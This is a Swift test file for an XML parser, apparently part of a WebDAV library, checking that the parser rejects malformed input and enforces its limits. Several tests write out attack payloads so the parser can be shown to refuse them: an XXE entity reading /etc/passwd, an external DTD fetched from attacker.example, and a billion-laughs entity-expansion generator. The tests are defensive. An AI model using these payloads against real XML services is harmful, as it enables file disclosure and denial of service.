import Testing
@testable import DAVXML

@Suite struct XMLHardeningTests {
    private func failure(_ text: String, limits: XMLParseLimits = .default) -> XMLParseError? {
        do {
            _ = try parseXML(text, limits: limits)
            return nil
        } catch {
            return error
        }
    }

    @Test(arguments: [
        "<a><b></a>",
        "<a>",
        "<a></a><b></b>",
        "<x:a/>",
        "<a b='1' b='2'/>",
        "<a>&unknown;</a>",
        "text only",
        "<a>\u{0001}</a>",
        "<a xmlns:p=''><p:b/></a>",
    ])
    func malformedInputIsRefused(_ text: String) {
        #expect(failure(text)?.kind == .malformed)
    }

    @Test func malformedErrorNamesTheLine() throws {
        let error = try #require(failure("<a>\n<b>\n</c>\n</a>"))
        #expect(error.kind == .malformed)
        #expect(error.line == 3)
        #expect(error.message.hasPrefix("line 3: "))
        #expect(error.reason.contains("mismatch"))
    }

    @Test(arguments: ["", "   \r\n\t "])
    func emptyBodyIsItsOwnKind(_ text: String) {
        #expect(failure(text)?.kind == .empty)
    }

    @Test func externalEntityIsRefused() throws {
        // The classic XXE: an external entity naming a local file.
        let xxe = """
            <?xml version="1.0"?>
            <!DOCTYPE foo [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
            <D:propfind xmlns:D="DAV:"><D:prop><D:displayname>&xxe;</D:displayname></D:prop></D:propfind>
            """
        let error = try #require(failure(xxe))
        #expect(error.kind == .doctypeForbidden)
        #expect(error.line == 2)
    }

    @Test func externalSubsetIsRefused() {
        let text = #"<!DOCTYPE a SYSTEM "http://attacker.example/evil.dtd"><a/>"#
        #expect(failure(text)?.kind == .doctypeForbidden)
    }

    @Test func billionLaughsIsRefusedBeforeExpansion() {
        var declarations = #"<!ENTITY lol0 "lol">"#
        for level in 1...9 {
            let previous = String(repeating: "&lol\(level - 1);", count: 10)
            declarations += "\n<!ENTITY lol\(level) \"\(previous)\">"
        }
        let text = "<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\(declarations)]>\n<lolz>&lol9;</lolz>"
        #expect(failure(text)?.kind == .doctypeForbidden)
    }

    @Test func plainDoctypeWithoutSubsetIsRefusedToo() {
        #expect(failure("<!DOCTYPE a><a/>")?.kind == .doctypeForbidden)
    }

    @Test func nestingDepthIsLimited() throws {
        let limit = XMLParseLimits.default.maxDepth
        let ok = String(repeating: "<a>", count: limit) + String(repeating: "</a>", count: limit)
        #expect(throws: Never.self) { try parseXML(ok) }
        let deep = String(repeating: "<a>", count: limit + 1) + String(repeating: "</a>", count: limit + 1)
        let error = try #require(failure(deep))
        #expect(error.kind == .limitExceeded)
        #expect(error.reason.contains("\(limit)"))
    }

    @Test func elementCountIsLimited() {
        var limits = XMLParseLimits.default
        limits.maxElements = 10
        let nine = "<r>" + String(repeating: "<x/>", count: 9) + "</r>"
        #expect(failure(nine, limits: limits) == nil)
        let eleven = "<r>" + String(repeating: "<x/>", count: 10) + "</r>"
        #expect(failure(eleven, limits: limits)?.kind == .limitExceeded)
    }

    @Test func attributeCountIsLimitedAndNamespaceDeclarationsDoNotCount() {
        var limits = XMLParseLimits.default
        limits.maxAttributesPerElement = 3
        #expect(failure(#"<a xmlns="urn:x" xmlns:p="urn:p" a="1" b="2" p:c="3"/>"#, limits: limits) == nil)
        #expect(failure(#"<a a="1" b="2" c="3" d="4"/>"#, limits: limits)?.kind == .limitExceeded)
    }

    @Test func inputSizeIsLimited() {
        var limits = XMLParseLimits.default
        limits.maxBytes = 16
        #expect(failure("<a>0123456789</a>", limits: limits)?.kind == .limitExceeded)
        #expect(failure("<a>012345678</a>", limits: limits) == nil)
    }

    @Test func concurrentParsesFromManyTasksAgree() async throws {
        let good = Array(#"<D:propfind xmlns:D="DAV:"><D:prop><D:getetag/><D:displayname/></D:prop></D:propfind>"#.utf8)
        let bad = Array("<D:propfind xmlns:D=\"DAV:\">\n<D:prop></D:propfind>".utf8)
        let expected = try XMLDocumentParser.parse(good)
        let outcomes = await withTaskGroup(of: Bool.self) { group in
            for index in 0..<400 {
                group.addTask {
                    for _ in 0..<25 {
                        if index.isMultiple(of: 2) {
                            guard (try? XMLDocumentParser.parse(good)) == expected else { return false }
                        } else {
                            do throws(XMLParseError) {
                                _ = try XMLDocumentParser.parse(bad)
                                return false
                            } catch {
                                guard error.kind == .malformed, error.line == 2 else { return false }
                            }
                        }
                    }
                    return true
                }
            }
            return await group.reduce(into: [Bool]()) { $0.append($1) }
        }
        #expect(outcomes.count == 400)
        #expect(outcomes.allSatisfy { $0 })
    }
}
